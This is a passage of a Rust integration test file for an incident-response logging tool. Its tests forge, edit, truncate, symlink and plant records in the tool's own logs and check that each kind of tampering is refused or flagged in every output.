//! The record can be trusted: every install's writes land, nothing forged becomes state, and
//! tampering is shown in every output — through the real binary, several installs at once.

mod common;

use std::fs;
use std::io::Write as _;
use std::os::unix::fs::symlink;

use common::*;
use warroom::domain::event::{self, Note, RoleAssigned};

fn problems(show: &serde_json::Value) -> String {
    show["problems"].to_string()
}

/// The same person on one host with two state directories (sudo, a container, a second HOME):
/// two logs, and every acknowledged note is kept — also with many processes at once.
#[test]
fn the_same_person_on_two_installs_keeps_every_write() {
    let w = World::new();
    let ic = w.who("ic", "jump");
    let id = w.declare(&ic, "Two installs");
    let jon1 = w.who("jon", "jump");
    let mut jon2 = jon1.clone();
    jon2.state = w.path().join("state-jon-second-home");
    w.note(&jon1, &id, "one");
    w.note(&jon2, &id, "two");
    // Many writers with one name on the two installs, all at once.
    let mut handles = Vec::new();
    for (n, who) in [jon1.clone(), jon2.clone()].into_iter().cycle().take(6).enumerate() {
        let root = w.root();
        let run = w.path().join("run");
        let cfg = w.path().join("cfg");
        let id = id.clone();
        handles.push(std::thread::spawn(move || {
            for i in 0..15 {
                let out = std::process::Command::new(BIN)
                    .env("WARROOM_DIR", &root)
                    .env("WARROOM_USER", &who.user)
                    .env("WARROOM_STATE_DIR", &who.state)
                    .env("WARROOM_HOST", &who.host)
                    .env("XDG_RUNTIME_DIR", &run)
                    .env("XDG_CONFIG_HOME", &cfg)
                    .args(["note", &id, &format!("p{n} n{i}")])
                    .output()
                    .unwrap();
                assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
            }
        }));
    }
    for h in handles {
        h.join().unwrap();
    }
    let notes = note_texts(&w.tail_json(&ic, &id));
    assert_eq!(notes.len(), 2 + 6 * 15, "every acknowledged note is kept");
    assert!(notes.contains(&"one".to_string()) && notes.contains(&"two".to_string()));
    let show = w.show(&ic, &id);
    assert_eq!(show["problems"], serde_json::json!([]), "{}", problems(&show));
    w.run(&ic, &["verify", &id]).ok();
}

/// A hand-written log under the victim's name, with a Declared that sorts first and a note at
/// seq 2, takes nothing over and erases nothing: the claim names the real declarer.
#[test]
fn a_forged_log_under_a_victims_name_takes_nothing_over() {
    let w = World::new();
    let alice = w.who("alice", "jump");
    let id = w.declare(&alice, "Real incident");
    w.note(&alice, &id, "alice's real note");
    let real = lines_of(&w.log_of(&alice, &id));
    let forged_log = w.events_dir(&id).join("alice@jump.evil01.ronl");
    // Copy her Declared, retitled and sorting first, then a note at seq 2: a valid chain.
    let first = real[0]
        .replace("Real incident", "Nothing to see")
        .replace("severity:2", "severity:4");
    let at = event::parse(&first).unwrap().at;
    let first = first.replacen(&format!("at:{at}"), "at:1000000000000", 1);
    fs::write(&forged_log, format!("{first}\n")).unwrap();
    forge(
        &forged_log,
        &id,
        "alice@jump",
        2,
        1_000_000_000_001,
        Note {
            text: "forged note".into(),
            tags: Default::default(),
        }
        .into(),
    );
    let show = w.show(&alice, &id);
    assert_eq!(show["title"], "Real incident");
    assert_eq!(show["severity"], 2);
    assert!(
        problems(&show).contains("not the incident's declaration"),
        "{}",
        problems(&show)
    );
    let notes = note_texts(&w.tail_json(&alice, &id));
    assert!(notes.contains(&"alice's real note".to_string()), "{notes:?}");
    let tail = w.run(&alice, &["tail", &id]).ok();
    assert!(
        tail.stdout.contains("[REFUSED:"),
        "the forged Declared looks refused\n{tail}"
    );
    let v = w.run(&alice, &["verify", &id]).code(1);
    assert!(v.stdout.contains("does not name as the declarer"), "{v}");
}

/// An edited status update (`sed -i`) is a problem in every output, marked where it is shown,
/// and an export opens with its integrity result.
#[test]
fn an_edited_record_is_flagged_in_every_output() {
    let w = World::new();
    let ic = w.who("ic", "jump");
    let bob = w.who("bob", "laptop");
    let id = w.declare(&ic, "Edited");
    w.run(
        &bob,
        &["status", &id, "--audience", "external", "Customer data was exposed"],
    )
    .ok();
    w.note(&bob, &id, "after the update");
    let log = w.log_of(&bob, &id);
    let text = fs::read_to_string(&log).unwrap();
    fs::write(
        &log,
        text.replace("Customer data was exposed", "No customer data was exposed"),
    )
    .unwrap();

    let show = w.run(&ic, &["show", &id]).ok();
    assert!(show.stdout.contains("was edited after it was written"), "{show}");
    let tail = w.run(&ic, &["tail", &id]).ok();
    let edited = tail
        .stdout
        .lines()
        .find(|l| l.contains("No customer data"))
        .unwrap_or_default();
    assert!(
        edited.contains("[INTEGRITY:"),
        "the edit is marked where it is shown\n{tail}"
    );
    let md = w.run(&ic, &["export", &id, "--format", "md"]).ok();
    let head: String = md.stdout.lines().take(6).collect::<Vec<_>>().join("\n");
    assert!(head.contains("Integrity: TAMPERING OR LOSS FOUND"), "{head}");
    let json = w.run(&ic, &["export", &id, "--format", "json"]).ok().json();
    assert_eq!(json["integrity"]["ok"], false);
    assert!(
        json["timeline"].to_string().contains("INTEGRITY"),
        "{}",
        json["timeline"]
    );
    w.run(&ic, &["verify", &id]).code(1);
    // Untouched, an export says it verified.
    let clean = w.declare(&ic, "Clean");
    let md = w.run(&ic, &["export", &clean, "--format", "md"]).ok();
    assert!(md.stdout.contains("Integrity: verified"), "{md}");
}

/// A log cut back below what a reader saw is caught on that reader's host — not only on the
/// writer's — and `verify` says how much of each log no other log vouches for yet.
#[test]
fn a_log_cut_back_is_caught_by_any_host_that_saw_it() {
    let w = World::new();
    let ic = w.who("ic", "jump");
    let bob = w.who("bob", "laptop");
    let auditor = w.who("audit", "elsewhere");
    let id = w.declare(&ic, "Cut");
    for n in 1..=3 {
        w.note(&bob, &id, &format!("bob {n}"));
    }
    w.run(&auditor, &["show", &id]).ok(); // the auditor's host sees seq 3
    let log = w.log_of(&bob, &id);
    let lines = lines_of(&log);
    fs::write(&log, format!("{}\n{}\n", lines[0], lines[1])).unwrap();

    let show = w.show(&auditor, &id);
    assert!(
        problems(&show).contains("ends at seq 2, but this host saw seq 3"),
        "{}",
        problems(&show)
    );
    // verify and an export on that host say so too.
    let v = w.run(&auditor, &["verify", &id]).code(1);
    assert!(
        v.stdout.contains("ends at seq 2, but this host read it up to seq 3"),
        "{v}"
    );
    let md = w.run(&auditor, &["export", &id]).ok();
    assert!(md.stdout.contains("Integrity: TAMPERING OR LOSS FOUND"), "{md}");
    // Every run on that host says it again (the seen head is not moved past a cut).
    w.run(&auditor, &["show", &id]).ok();
    assert!(problems(&w.show(&auditor, &id)).contains("this host saw seq 3"));
    // The writer's own host notices its own log cut back, though it only ever wrote.
    assert!(
        problems(&w.show(&bob, &id)).contains("this host saw seq 3"),
        "{}",
        problems(&w.show(&bob, &id))
    );
    // verify says how much of each log no other log vouches for yet.
    let v = w.run(&ic, &["verify", &id]).ok();
    assert!(v.stdout.contains("not yet anchored"), "{v}");
}

/// A forged handoff is refused by the fold and looks refused in the timeline and the export.
#[test]
fn a_refused_record_looks_refused() {
    let w = World::new();
    let ic = w.who("ic", "jump");
    let mallory = w.who("mallory", "box");
    let id = w.declare(&ic, "Handoff");
    w.note(&mallory, &id, "hello");
    let r = w.run(&mallory, &["role", &id, "commander", "mallory"]).code(1);
    assert!(r.stderr.contains("only the commander"), "{r}");
    let log = w.log_of(&mallory, &id);
    let at = event::parse(lines_of(&log).last().unwrap()).unwrap().at + 1;
    forge(
        &log,
        &id,
        "mallory@box",
        2,
        at,
        RoleAssigned {
            role: "commander".into(),
            who: "mallory".into(),
        }
        .into(),
    );
    assert_eq!(w.show(&ic, &id)["commander"], "ic");
    let tail = w.run(&ic, &["tail", &id]).ok();
    let line = tail
        .stdout
        .lines()
        .find(|l| l.contains("RoleAssigned"))
        .unwrap_or_default();
    assert!(
        line.contains("[REFUSED:") && line.contains("only the commander"),
        "{tail}"
    );
    let md = w.run(&ic, &["export", &id]).ok();
    assert!(md.stdout.contains("REFUSED"), "{md}");
}

/// Nothing below the root is followed: an `events/` replaced by a symlink to another incident
/// takes no write there and is reported; a symlinked `incident.ron` is reported, not used.
#[test]
fn symlinks_below_the_root_are_refused_and_reported() {
    let w = World::new();
    let ic = w.who("ic", "jump");
    let a = w.declare(&ic, "Incident A");
    let b = w.declare(&ic, "Incident B");
    let a_events = w.events_dir(&a);
    fs::rename(&a_events, w.path().join("moved-events")).unwrap();
    symlink(w.events_dir(&b), &a_events).unwrap();
    let before = lines_of(&w.log_of(&ic, &b));
    let r = w.run(&ic, &["note", &a, "meant for A"]).code(1);
    assert!(r.stderr.contains("symlink"), "{r}");
    assert_eq!(lines_of(&w.log_of(&ic, &b)), before, "nothing landed in B");
    let show = w.show(&ic, &a);
    assert!(problems(&show).contains("symlink"), "{}", problems(&show));

    let c = w.declare(&ic, "Incident C");
    let header = w.root().join(&c).join("incident.ron");
    fs::remove_file(&header).unwrap();
    symlink(w.root().join(&b).join("incident.ron"), &header).unwrap();
    let show = w.show(&ic, &c);
    assert!(
        problems(&show).contains("is a symlink; not followed"),
        "{}",
        problems(&show)
    );
    assert_eq!(show["status"], "syncing", "a symlinked claim is not used");
}

/// Links between incidents cannot swallow the board: a duplicate's target is an open incident
/// that is not itself a duplicate (followed to the root; cycles refused).
#[test]
fn duplicate_links_cannot_form_a_cycle() {
    let w = World::new();
    let ic = w.who("ic", "jump");
    let a = w.declare(&ic, "First report");
    let b = w.declare(&ic, "Second report");
    let c = w.declare(&ic, "Third report");
    w.run(&ic, &["duplicate", &b, "--of", &a]).ok();
    let r = w.run(&ic, &["duplicate", &a, "--of", &b]).code(1);
    assert!(r.stderr.contains("leads back to"), "{r}");
    // A duplicate of a duplicate links to the root.
    let r = w.run(&ic, &["duplicate", &c, "--of", &b]).ok();
    assert!(r.stderr.contains(&format!("duplicate of {a}")), "{r}");
    assert_eq!(w.show(&ic, &a)["status"], "active");
    // A cycle written by hand (or by two racing commands) keeps both on the active board.
    let d = w.declare(&ic, "Fourth report");
    let log = w.log_of(&ic, &a);
    let last = event::parse(lines_of(&log).last().unwrap()).unwrap();
    forge(
        &log,
        &a,
        "ic@jump",
        last.seq + 1,
        last.at + 1,
        warroom::domain::event::DuplicateOf { of: d.clone() }.into(),
    );
    forge(
        &log,
        &a,
        "ic@jump",
        last.seq + 2,
        last.at + 2,
        warroom::domain::event::Archived {}.into(),
    );
    let log = w.log_of(&ic, &d);
    let last = event::parse(lines_of(&log).last().unwrap()).unwrap();
    forge(
        &log,
        &d,
        "ic@jump",
        last.seq + 1,
        last.at + 1,
        warroom::domain::event::DuplicateOf { of: a.clone() }.into(),
    );
    forge(
        &log,
        &d,
        "ic@jump",
        last.seq + 2,
        last.at + 2,
        warroom::domain::event::Archived {}.into(),
    );
    let list = w.run(&ic, &["list", "--json"]).ok().json();
    for id in [&a, &d] {
        let row = list["incidents"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["id"] == **id)
            .unwrap()
            .clone();
        assert_eq!(row["status"], "active", "{row}");
    }
    let show = w.show(&ic, &a);
    assert_eq!(show["status"], "active");
    assert!(problems(&show).contains("duplicate link"), "{}", problems(&show));
}

mod writer_and_reader_agree {
    //! What the public write API accepts, every reader accepts, unchanged; and a log a writer
    //! produced never makes its next write fail. Arbitrary bodies, texts, numbers and times.
    use proptest::prelude::*;
    use warroom::domain::event::*;
    use warroom::domain::identity::WriterId;
    use warroom::domain::playbook::Audience;
    use warroom::store::incident::{declare, DeclareRequest, Source, View};
    use warroom::store::writer::{Draft, LogWriter};
    use warroom::store::{install_id, Identity, RootChoice, RootSource, Store};

    fn text() -> impl Strategy<Value = String> {
        prop_oneof![
            any::<String>(),
            "[a-z0-9 ._-]{0,40}",
            Just(String::new()),
            Just("\u{1b}[31m\u{202e}\u{2028}\r\n\t\0".to_string()),
        ]
    }

    fn body() -> impl Strategy<Value = Body> {
        prop_oneof![
            (text(), proptest::collection::vec(text(), 0..3)).prop_map(|(text, tags)| Note {
                text: text.into(),
                tags: tags.into()
            }
            .into()),
            (any::<u8>(), proptest::option::of(text())).prop_map(|(severity, reason)| SeverityChanged {
                severity,
                reason
            }
            .into()),
            (text(), text()).prop_map(|(role, who)| RoleAssigned { role, who }.into()),
            (text(), any::<bool>()).prop_map(|(text, ext)| StatusUpdate {
                audience: if ext { Audience::External } else { Audience::Internal },
                text
            }
            .into()),
            (any::<f64>(), any::<i64>(), text()).prop_map(|(speed, scenario_ms, change)| ExerciseClock {
                change,
                speed,
                scenario_ms
            }
            .into()),
            (text(), text(), any::<i64>()).prop_map(|(inject, title, scenario_ms)| InjectReleased {
                inject,
                title: title.clone(),
                text: title,
                scenario_ms
            }
            .into()),
            text().prop_map(|of| DuplicateOf { of }.into()),
        ]
    }

    fn occurred() -> impl Strategy<Value = Option<i64>> {
        prop_oneof![
            Just(None),
            any::<i64>().prop_map(Some),
            (0i64..4_102_444_800_000).prop_map(Some)
        ]
    }

    struct Fixture {
        _tmp: tempfile::TempDir,
        store: Store,
        identity: Identity,
        id: String,
    }

    fn fixture() -> Fixture {
        let tmp = tempfile::tempdir().unwrap();
        let store = Store::open(
            &RootChoice {
                path: tmp.path().join("shared"),
                source: RootSource::Flag,
            },
            tmp.path().join("state"),
            tmp.path().join("run"),
        )
        .unwrap();
        let identity = Identity {
            writer: WriterId {
                name: "pat".into(),
                host: "h".into(),
            },
            install: install_id(&store.state_dir).unwrap(),
        };
        let pb = warroom::store::playbooks::Library::built_in()
            .resolve("ransomware")
            .unwrap();
        let req = DeclareRequest {
            playbook: &pb,
            title: "prop".into(),
            severity: 2,
            mode: Mode::Exercise,
            commander: "pat".into(),
            require_signatures: false,
            occurred: None,
        };
        let (id, _) = declare(&store, &identity, req, warroom::cli::context::now_ms).unwrap();
        Fixture {
            _tmp: tmp,
            store,
            identity,
            id,
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]
        #[test]
        fn what_a_writer_acknowledges_every_reader_accepts(
            drafts in proptest::collection::vec((body(), occurred()), 1..6)
        ) {
            let f = fixture();
            let w = LogWriter::new(&f.store, &f.id, &f.identity);
            let mut source = Source::new(&f.store, &f.id);
            let mut view = View::new(&f.id);
            view.apply(source.poll(warroom::cli::context::now_ms()));
            for (body, occurred) in drafts {
                let len = std::fs::metadata(w.log_path()).map(|m| m.len()).unwrap_or(0);
                match w.append(vec![Draft::new(body).at(occurred)], warroom::cli::context::now_ms) {
                    Ok(appended) => {
                        let update = source.poll(warroom::cli::context::now_ms());
                        prop_assert!(update.problems.is_empty(), "{:?}", update.problems);
                        prop_assert_eq!(&update.events, &appended.events);
                        view.apply(update);
                    }
                    Err(_) => {
                        let now = std::fs::metadata(w.log_path()).map(|m| m.len()).unwrap_or(0);
                        prop_assert_eq!(now, len, "a refused write writes nothing");
                    }
                }
                // Whatever came before, the next write goes through.
                let next = w.append(
                    vec![Draft::new(Note { text: "next".into(), tags: Default::default() })],
                    warroom::cli::context::now_ms,
                );
                prop_assert!(next.is_ok(), "{:?}", next.err().map(|e| e.to_string()));
                let update = source.poll(warroom::cli::context::now_ms());
                prop_assert!(update.problems.is_empty(), "{:?}", update.problems);
                view.apply(update);
            }
            // (Rules about the history — a role the playbook lacks — are the fold's, checked by the
            // CLI and the console before they call the writer; here only the files are judged.)
            prop_assert!(view.file_problems.is_empty(), "{:?}", view.file_problems);
        }
    }
}

/// A declaration that fails half-way (here: the lock cannot be taken; a full disk does the same)
/// leaves no incident "syncing" for ever: the claim is withdrawn.
#[test]
fn a_declare_that_fails_half_way_leaves_nothing() {
    let w = World::new();
    let ic = w.who("ic", "jump");
    w.declare(&ic, "Fine"); // the root exists
    let not_a_dir = w.path().join("runtime-is-a-file");
    fs::write(&not_a_dir, "").unwrap();
    let r = Run::from_output(
        w.cmd(&ic)
            .env("XDG_RUNTIME_DIR", &not_a_dir)
            .args([
                "declare",
                "--playbook",
                "ransomware",
                "--title",
                "Half",
                "--severity",
                "2",
            ])
            .output()
            .unwrap(),
    )
    .code(1);
    assert!(!r.stderr.is_empty(), "{r}");
    let list = w.run(&ic, &["list", "--json"]).ok().json();
    let incidents = list["incidents"].as_array().unwrap();
    assert_eq!(incidents.len(), 1, "{list}");
    assert!(incidents.iter().all(|i| i["status"] != "syncing"), "{list}");
}

/// The read verbs end quietly when their reader goes away (`export | head -1`), never a panic.
#[test]
fn read_verbs_exit_quietly_when_the_pipe_closes() {
    use std::io::Read as _;
    let w = World::new();
    let ic = w.who("ic", "jump");
    let id = w.declare(&ic, "Pipe");
    let lines: String = (0..3000)
        .map(|i| format!("{{\"text\":\"imported line {i} with enough words to fill a pipe buffer quickly\"}}\n"))
        .collect();
    w.run_stdin(&ic, &["import", &id], &lines).ok();
    // More incidents, so `list` and `report` have more to say than a pipe buffer holds.
    for i in 0..40 {
        w.declare(
            &ic,
            &format!("Pipe {i} with a title long enough to fill the listing quickly"),
        );
    }
    for args in [
        vec!["show", id.as_str(), "--json"],
        vec!["show", id.as_str()],
        vec!["export", id.as_str(), "--format", "json"],
        vec!["export", id.as_str()],
        vec!["tail", id.as_str()],
        vec!["tail", id.as_str(), "--json"],
        vec!["list", "--json"],
        vec!["list"],
        vec!["report"],
        vec!["report", "--json"],
        vec!["review", id.as_str()],
        vec!["verify", id.as_str()],
        vec!["playbook", "list"],
    ] {
        let mut child = w
            .cmd(&ic)
            .args(&args)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut first = [0u8; 10];
        let _ = child.stdout.take().unwrap().read(&mut first); // then the pipe closes
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
        assert!(!stderr.to_lowercase().contains("broken pipe"), "{args:?}: {stderr}");
        assert_eq!(out.status.code(), Some(0), "{args:?}: {stderr}");
    }
    // An export opens with its integrity result, in JSON too.
    let json = w.run(&ic, &["export", &id, "--format", "json"]).ok();
    let keys: Vec<&str> = json.stdout.lines().skip(1).take(2).collect();
    assert!(keys.iter().any(|k| k.contains("\"integrity\"")), "{keys:?}");
}

/// One bad line in an import (a tag no reader would accept) refuses that line, names it, and
/// keeps the others.
#[test]
fn an_import_refuses_bad_lines_one_by_one() {
    let w = World::new();
    let ic = w.who("ic", "jump");
    let id = w.declare(&ic, "Import");
    let input = "{\"text\":\"good\"}\n{\"text\":\"t\",\"tags\":[\"\"]}\n{\"text\":\"also good\",\"tags\":[\"ok\"]}\n";
    let r = w.run_stdin(&ic, &["import", &id], input).code(1);
    assert!(
        r.stderr.contains("imported 2 of 3 lines") && r.stderr.contains("line 2: `tag`"),
        "{r}"
    );
    let notes = note_texts(&w.tail_json(&ic, &id));
    assert_eq!(notes, ["good", "also good"]);
}

/// Records planted to sort before the incident's declaration (an early `at`) take nothing over:
/// they are refused and shown as refused, and `verify` names them.
#[test]
fn records_before_the_declaration_are_refused() {
    use warroom::domain::event::{ActionSet, ActionState};
    let w = World::new();
    let maya = w.who("maya", "h1");
    let id = w.declare(&maya, "Early");
    let log = w.events_dir(&id).join("mallory@x.m1.ronl");
    forge(
        &log,
        &id,
        "mallory@x",
        1,
        1_000,
        RoleAssigned {
            role: "commander".into(),
            who: "mallory".into(),
        }
        .into(),
    );
    forge(
        &log,
        &id,
        "mallory@x",
        2,
        1_001,
        ActionSet {
            action: "cut-segment-egress".into(),
            state: ActionState::Done,
            note: None,
        }
        .into(),
    );
    let show = w.show(&maya, &id);
    assert_eq!(show["commander"], "maya");
    assert!(
        problems(&show).contains("sorts before the incident's declaration"),
        "{}",
        problems(&show)
    );
    let tail = w.run(&maya, &["tail", &id]).ok();
    assert_eq!(tail.stdout.matches("[REFUSED:").count(), 2, "{tail}");
    // The real commander still hands off.
    w.run(&maya, &["role", &id, "commander", "jon"]).ok();
}

/// A writer whose host has the incident folder but not yet the declaring log (a sync tool
/// delivers files in any order) writes nothing rather than a record that would sort before it.
#[test]
fn no_write_before_the_declaration_has_synced() {
    let w = World::new();
    let maya = w.who("maya", "h1");
    let jon = w.who("jon", "h2");
    let id = w.declare(&maya, "Syncing");
    let declaring = w.log_of(&maya, &id);
    let aside = w.path().join("aside.ronl");
    fs::rename(&declaring, &aside).unwrap();
    let r = w.run(&jon, &["note", &id, "too early"]).code(1);
    assert!(r.stderr.contains("not fully synced"), "{r}");
    fs::rename(&aside, &declaring).unwrap();
    w.note(&jon, &id, "now");
}

/// Editing the shared playbook copy (to drop a two-person approval) turns off no rule: the copy
/// no longer matches its hash, and this host's library copy with that hash is used instead.
#[test]
fn an_edited_playbook_copy_turns_off_no_rule() {
    let w = World::new();
    let maya = w.who("maya", "h1");
    let jon = w.who("jon", "h2");
    let id = w.declare(&maya, "Rules");
    let dir = w.root().join(&id).join("playbooks");
    for f in fs::read_dir(&dir).unwrap().flatten() {
        let text = fs::read_to_string(f.path()).unwrap();
        fs::write(f.path(), text.replace("TwoPerson", "None")).unwrap();
    }
    let r = w.run(&jon, &["action", &id, "cut-segment-egress", "done"]).code(1);
    assert!(r.stderr.contains("needs approval first"), "{r}");
    let show = w.show(&jon, &id);
    assert!(
        problems(&show).contains("library copy with the same hash is used"),
        "{}",
        problems(&show)
    );
}

/// Rewriting `incident.ron` to name a forged declarer takes nothing over on a host that had read
/// the incident: it keeps the declarer it saw and says so; `verify` there calls it rewritten.
#[test]
fn a_rewritten_claim_takes_nothing_over_where_it_was_read() {
    let w = World::new();
    let maya = w.who("maya", "h1");
    let jon = w.who("jon", "h2");
    let id = w.declare(&maya, "Real");
    w.run(&jon, &["show", &id]).ok(); // jon's host reads the claim
    let real = lines_of(&w.log_of(&maya, &id));
    let forged_log = w.events_dir(&id).join("eve@x.abc.ronl");
    let first = real[0]
        .replace("\"Real\"", "\"FORGED\"")
        .replace("by:\"maya@h1\"", "by:\"eve@x\"")
        .replace("commander:\"maya\"", "commander:\"eve\"");
    let mut e = event::parse(&first).unwrap();
    let prev = event::genesis_hash(&id, "eve@x").into();
    e.at = 1_000_000_000_000;
    fs::write(&forged_log, format!("{}\n", event::encode(&e, &prev).unwrap())).unwrap();
    let header = w.root().join(&id).join("incident.ron");
    let text = fs::read_to_string(&header).unwrap();
    let maya_log = w.log_of(&maya, &id).file_stem().unwrap().to_string_lossy().into_owned();
    fs::write(&header, text.replace(&maya_log, "eve@x.abc")).unwrap();

    let show = w.show(&jon, &id);
    assert_eq!(show["title"], "Real", "{show}");
    assert_eq!(show["commander"], "maya");
    assert!(problems(&show).contains("rewritten?"), "{}", problems(&show));
    let v = w.run(&jon, &["verify", &id]).code(1);
    assert!(
        v.stdout.contains("incident.ron: names eve@x.abc as the declarer"),
        "{v}"
    );
    // Removing the claim does not make the incident "syncing" on that host either.
    fs::remove_file(&header).unwrap();
    assert_eq!(w.show(&jon, &id)["title"], "Real");
}

/// Records planted at the end of someone's log (a seq of 2^53, a sort key in the year 9999,
/// 70 lines of garbage, a megabyte without a newline) never lock its owner out or drag it along.
#[test]
fn planted_lines_never_lock_the_owner_out() {
    let w = World::new();
    let maya = w.who("maya", "h1");
    let id = w.declare(&maya, "Planted");
    w.note(&maya, &id, "mine");
    let log = w.log_of(&maya, &id);
    forge(
        &log,
        &id,
        "maya@h1",
        1 << 53,
        253_402_300_799_999,
        Note {
            text: "planted".into(),
            tags: Default::default(),
        }
        .into(),
    );
    let r = w.note(&maya, &id, "after the plant");
    assert!(r.stderr.contains("never wrote"), "{r}");
    let after = event::parse(lines_of(&log).last().unwrap()).unwrap();
    assert!(after.seq < 100 && after.at < 253_402_300_799_999, "{after:?}");
    // Her record follows her own, so it is not the one marked; the planted one is disowned.
    let tail = w.run(&maya, &["tail", &id]).ok();
    let mine = tail.stdout.lines().find(|l| l.contains("after the plant")).unwrap();
    assert!(!mine.contains("[INTEGRITY") && !mine.contains("[REFUSED"), "{tail}");
    let planted = tail.stdout.lines().find(|l| l.contains("planted")).unwrap();
    assert!(planted.contains("never wrote"), "{tail}");
    let mut f = fs::OpenOptions::new().append(true).open(&log).unwrap();
    for _ in 0..70 {
        writeln!(f, "garbage").unwrap();
    }
    w.note(&maya, &id, "after garbage");
    let big = "x".repeat(1_100_000);
    write!(f, "{big}").unwrap();
    let r = w.note(&maya, &id, "after a megabyte");
    assert!(r.stderr.contains("repaired"), "{r}");
    let notes = note_texts(&w.tail_json(&maya, &id));
    for n in ["mine", "after the plant", "after garbage", "after a megabyte"] {
        assert!(notes.contains(&n.to_string()), "{n}: {notes:?}");
    }
}

/// A log rewritten with a valid chain (an edit, every hash recomputed, a record added) is
/// reported on every run by a host that had read it, and its writer re-appends the originals.
#[test]
fn a_rechained_rewrite_stays_reported() {
    let w = World::new();
    let maya = w.who("maya", "h1");
    let jon = w.who("jon", "h2");
    let id = w.declare(&maya, "Rechain");
    w.run(
        &maya,
        &["status", &id, "--audience", "external", "Customer data NOT affected"],
    )
    .ok();
    w.note(&maya, &id, "last");
    w.run(&jon, &["show", &id]).ok();
    let log = w.log_of(&maya, &id);
    // Edit, then recompute every prev so the chain is valid again, then add one record.
    let mut prev = event::genesis_hash(&id, "maya@h1");
    let mut out = String::new();
    for line in lines_of(&log) {
        let e = event::parse(&line.replace("NOT affected", "affected")).unwrap();
        let l = event::encode(&e, &prev.as_str().into()).unwrap();
        prev = event::line_hash(l.as_bytes());
        out.push_str(&l);
        out.push('\n');
    }
    fs::write(&log, out).unwrap();
    let last = event::parse(lines_of(&log).last().unwrap()).unwrap();
    forge(
        &log,
        &id,
        "maya@h1",
        last.seq + 1,
        last.at + 1,
        Note {
            text: "forged".into(),
            tags: Default::default(),
        }
        .into(),
    );
    for _ in 0..2 {
        let show = w.show(&jon, &id);
        assert!(
            problems(&show).contains("differs from the record this host read"),
            "{}",
            problems(&show)
        );
    }
    w.run(&jon, &["verify", &id]).code(1);
    // The writer notices and puts her originals back beside the forgeries.
    let r = w.note(&maya, &id, "more");
    assert!(r.stderr.contains("never wrote"), "{r}");
    let tail = w.run(&jon, &["tail", &id]).ok();
    assert!(tail.stdout.contains("NOT affected"), "{tail}");
}

/// A log planted under someone's name and install id before they ever wrote to it (the id is
/// visible in other incidents) does not lock them out when they do.
#[test]
fn a_log_planted_before_its_owner_writes_does_not_lock_them_out() {
    let w = World::new();
    let maya = w.who("maya", "h1");
    let bob = w.who("bob", "h2");
    let a = w.declare(&maya, "First");
    w.note(&bob, &a, "hello");
    let name = w.log_of(&bob, &a).file_name().unwrap().to_owned();
    let b = w.declare(&maya, "Second");
    let planted = w.events_dir(&b).join(&name);
    forge(
        &planted,
        &b,
        "bob@h2",
        1 << 53,
        253_402_300_799_999,
        Note {
            text: "planted".into(),
            tags: Default::default(),
        }
        .into(),
    );
    let r = w.note(&bob, &b, "mine");
    assert!(r.stderr.contains("never wrote"), "{r}");
    assert!(note_texts(&w.tail_json(&maya, &b)).contains(&"mine".to_string()));
}

/// A record dated in the year 9999 outranks nothing: it is held back as more than a day ahead
/// of this host's clock, and the commander's later change stands.
#[test]
fn a_record_from_the_far_future_changes_nothing() {
    use warroom::domain::event::SeverityChanged;
    let w = World::new();
    let ana = w.who("ana", "h1");
    let id = w.declare(&ana, "Future");
    let log = w.events_dir(&id).join("eve@h9.abc123.ronl");
    forge(
        &log,
        &id,
        "eve@h9",
        1,
        253_402_300_799_000,
        SeverityChanged {
            severity: 4,
            reason: None,
        }
        .into(),
    );
    w.run(&ana, &["severity", &id, "1", "--reason", "real"]).ok();
    let show = w.show(&ana, &id);
    assert_eq!(show["severity"], 1, "{show}");
    assert!(problems(&show).contains("more than a day ahead"), "{}", problems(&show));
}

/// One install's processes take turns on its log even when they see different
/// `XDG_RUNTIME_DIR`s (cron, su, an ssh session without systemd): nothing acknowledged is lost.
#[test]
fn one_install_with_two_runtime_dirs_loses_nothing() {
    let w = World::new();
    let ana = w.who("ana", "h1");
    let id = w.declare(&ana, "Locks");
    let mut handles = Vec::new();
    for n in 0..2 {
        let root = w.root();
        let state = ana.state.clone();
        let run = w.path().join(format!("run-{n}"));
        let id = id.clone();
        handles.push(std::thread::spawn(move || {
            for i in 0..25 {
                let out = std::process::Command::new(BIN)
                    .env("WARROOM_DIR", &root)
                    .env("WARROOM_USER", "ana")
                    .env("WARROOM_STATE_DIR", &state)
                    .env("WARROOM_HOST", "h1")
                    .env("XDG_RUNTIME_DIR", &run)
                    .args(["note", &id, &format!("r{n} {i}")])
                    .output()
                    .unwrap();
                assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
            }
        }));
    }
    for h in handles {
        h.join().unwrap();
    }
    assert_eq!(note_texts(&w.tail_json(&ana, &id)).len(), 50);
    w.run(&ana, &["verify", &id]).ok();
}

/// A host that only ever declared or wrote notes remembers the declarer too: a rewritten claim
/// takes nothing over on the declarer's own host, and a removed one locks no writer out there.
#[test]
fn writers_remember_the_declarer() {
    let w = World::new();
    let ana = w.who("ana", "h1");
    let id = w.declare(&ana, "Mine");
    let header = w.root().join(&id).join("incident.ron");
    let text = fs::read_to_string(&header).unwrap();
    let own = w.log_of(&ana, &id).file_stem().unwrap().to_string_lossy().into_owned();
    fs::write(&header, text.replace(&own, "eve@h9.abc123")).unwrap();
    assert_eq!(w.show(&ana, &id)["title"], "Mine");
    fs::remove_file(&header).unwrap();
    w.note(&ana, &id, "still writing");
}

/// A validly chained record planted at the end of someone's log does not pass as theirs once
/// they write again: they disown it, it is marked and not applied everywhere, `verify` says so.
#[test]
fn a_planted_record_is_disowned_by_its_logs_writer() {
    let w = World::new();
    let ana = w.who("ana", "h1");
    let id = w.declare(&ana, "Planted");
    w.note(&ana, &id, "mine");
    let log = w.log_of(&ana, &id);
    let last = event::parse(lines_of(&log).last().unwrap()).unwrap();
    forge(
        &log,
        &id,
        "ana@h1",
        last.seq + 1,
        last.at + 1,
        RoleAssigned {
            role: "commander".into(),
            who: "eve".into(),
        }
        .into(),
    );
    let r = w.note(&ana, &id, "next");
    assert!(r.stderr.contains("never wrote"), "{r}");
    let show = w.show(&ana, &id);
